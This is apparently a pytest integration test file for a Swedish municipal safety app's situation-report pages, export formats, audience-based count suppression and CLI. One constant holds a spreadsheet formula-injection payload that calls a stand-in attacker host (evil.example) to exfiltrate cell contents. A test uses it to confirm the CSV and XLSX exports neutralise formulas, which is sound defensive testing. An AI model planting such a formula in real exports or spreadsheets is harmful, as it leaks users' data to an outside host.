"""Lägesbild and promise pages (roles, downloads) and the ``est lagesbild`` command."""

import csv
import io
import time
import uuid
from datetime import date

import pytest
from openpyxl import load_workbook

from est.models import Action
from tests.integration.test_lagesbild import fixture_reports  # noqa: F401

Q = "from=2025-03-01&to=2025-04-30&area=1861"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'


@pytest.fixture
def app_config(app_config, tmp_path):
    """Keep this module's lägesbild cache in a temporary directory."""
    return {**app_config, "EST_LAGESBILD_CACHE_DIR": str(tmp_path / "lagesbild-cache")}


@pytest.fixture
def login(sign_in, make_organisation):
    """Sign in with ``role`` as a member of a new organisation."""
    return lambda role: sign_in(role, make_organisation(f"Org {uuid.uuid4().hex[:6]}"))


def test_lagesbild_page_and_downloads(client, login, fixture_reports):  # noqa: F811
    assert client.get(f"/lagesbild?{Q}").status_code in (302, 401)
    login("reporter")
    assert client.get(f"/lagesbild?{Q}").status_code == 403
    login("viewer")
    page = client.get(f"/lagesbild?{Q}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Lägesbild Hallsberg 2025-03-01 – 2025-04-30" in html
    assert "leaflet" in html.lower() and "data:image/png;base64," in html
    assert "anna.secret@example.se" not in html
    for fmt, media in (("pdf", "application/pdf"), ("csv", "text/csv; charset=utf-8"),
                       ("geojson", "application/geo+json"),
                       ("md", "text/markdown; charset=utf-8"), ("html", "text/html; charset=utf-8"),
                       ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml."
                                "sheet")):
        resp = client.get(f"/lagesbild/export.{fmt}?{Q}")
        assert resp.status_code == 200 and resp.headers["Content-Type"] == media  # charset once
        assert "attachment" in resp.headers["Content-Disposition"]
    assert client.get("/lagesbild?from=2025-02-30&to=2025-04-30&area=1861").status_code == 400
    assert client.get("/lagesbild/export.xls?" + Q).status_code == 400
    bad = client.get(f"/lagesbild/export.csv?{Q}&audience=alla")
    assert bad.status_code == 400 and "audience" in bad.get_data(as_text=True)


def test_staff_page_shows_exact_counts_exports_follow_the_audience(client, login,
                                                                   fixture_reports):  # noqa: F811
    login("coordinator")
    html = client.get(f"/lagesbild?{Q}").get_data(as_text=True)
    # Narkotika: 3 reports in April. Staff see 3; the public file hides it as <5.
    assert '<td>Narkotika</td><td>Händelser</td><td class="num">0</td><td class="num">3</td>' \
        in html
    assert "Internt underlag" in html and "audience=public" in html

    def narkotika(audience):
        body = client.get(f"/lagesbild/export.csv?{Q}&audience={audience}").data
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
        return [r[8] for r in rows if r[6] == "Narkotika" and r[7] == "apr 2025"]

    assert narkotika("internal") == ["3"]
    assert narkotika("partner") == ["<5"] and narkotika("public") == ["<5"]
    assert narkotika("") == ["<5"]  # no audience given: the public file


def test_formula_in_action_title_is_neutralised_in_the_downloads(
        client, login, fixture_reports, db_session, category, make_organisation):  # noqa: F811
    org = make_organisation("Hallsbergs kommun", "kommun", area=fixture_reports)
    db_session.add(Action(area_id=fixture_reports.id, category_id=category("klotter").id,
                          title=EVIL, organisation_id=org.id, starts_on=date(2025, 4, 1),
                          status="in_progress"))
    db_session.flush()
    login("coordinator")
    body = client.get(f"/lagesbild/export.csv?{Q}&audience=internal").data
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Område", "Kommunkod", "Från", "Till", "Avsnitt", "Tabell", "Rad",
                       "Kolumn", "Värde"]
    titles = {r[6] for r in rows if r[5] == "Åtgärder"}
    assert titles == {"'" + EVIL}
    assert not any(cell.startswith("=") for r in rows for cell in r)
    wb = load_workbook(io.BytesIO(client.get(f"/lagesbild/export.xlsx?{Q}").data))
    cells = [c for ws in wb for r in ws.iter_rows() for c in r if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for ws in wb for r in ws.iter_rows() for c in r)


def test_repeat_view_and_second_format_come_from_the_cache(client, login,
                                                           fixture_reports):  # noqa: F811
    login("viewer")
    t0 = time.perf_counter()
    first = client.get(f"/lagesbild?{Q}")
    first_s = time.perf_counter() - t0
    t1 = time.perf_counter()
    again = client.get(f"/lagesbild?{Q}")
    repeat_s = time.perf_counter() - t1
    assert first.status_code == again.status_code == 200
    assert repeat_s < first_s  # no rebuild: the hot spot detection and charts are cached
    md = client.get(f"/lagesbild/export.md?{Q}&audience=internal")
    assert md.status_code == 200 and "| Narkotika | Händelser | 0 | 3 | 3 |" in md.get_data(
        as_text=True)


def test_promise_draft_save_and_followup(client, login, fixture_reports):  # noqa: F811
    login("coordinator")
    draft = client.get(f"/promises/draft?{Q}&start=2025-05-01&end=2026-04-30")
    assert draft.status_code == 200 and "Polisen och kommunen lovar att" in draft.get_data(
        as_text=True)
    docx = client.get(f"/promises/draft.docx?{Q}&start=2025-05-01&end=2026-04-30")
    assert docx.status_code == 200 and docx.data[:2] == b"PK"
    saved = client.post(f"/promises?{Q}&start=2025-05-01&end=2026-04-30")
    assert saved.status_code == 302
    page = client.get(saved.headers["Location"])
    assert page.status_code == 200 and "Indikatorer" in page.get_data(as_text=True)
    assert client.get(saved.headers["Location"] + "/followup.pdf").status_code == 200
    assert client.get("/promises?area=1861").status_code == 200


def test_cli_writes_file_or_nothing(runner, tmp_path, fixture_reports):  # noqa: F811
    out = tmp_path / "lb.md"
    result = runner.invoke(args=["lagesbild", "--from", "2025-03-01", "--to", "2025-04-30",
                                 "--format", "md", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "| Klotter | Händelser | 12 | 10 | +20 % | 8 | +50 % |" in out.read_text()
    for args in (["--from", "2025-13-01", "--to", "2025-04-30", "--format", "md"],
                 ["--from", "2025-03-01", "--to", "2025-04-30", "--area", "9999",
                  "--format", "md"],
                 ["--from", "2025-03-01", "--to", "2025-04-30", "--format", "xls"]):
        bad = tmp_path / "bad.out"
        result = runner.invoke(args=["lagesbild", *args, "-o", str(bad)])
        assert result.exit_code != 0
        assert not bad.exists() and list(tmp_path.glob(".bad.out*")) == []
    assert "Error" in result.output or "Invalid" in result.output
    draft = tmp_path / "draft.docx"
    result = runner.invoke(args=["promises", "draft", "--from", "2025-03-01", "--to",
                                 "2025-04-30", "--period-start", "2025-05-01", "--period-end",
                                 "2026-04-30", "--format", "docx", "-o", str(draft)])
    assert result.exit_code == 0, result.output
    assert draft.read_bytes()[:2] == b"PK"


def test_cli_audience(runner, tmp_path, fixture_reports):  # noqa: F811
    out = tmp_path / "intern.md"
    result = runner.invoke(args=["lagesbild", "--from", "2025-03-01", "--to", "2025-04-30",
                                 "--format", "md", "--audience", "internal", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "| Narkotika | Händelser | 0 | 3 | 3 |" in out.read_text()
    result = runner.invoke(args=["lagesbild", "--from", "2025-03-01", "--to", "2025-04-30",
                                 "--format", "md", "--audience", "alla", "-o", str(out)])
    assert result.exit_code != 0
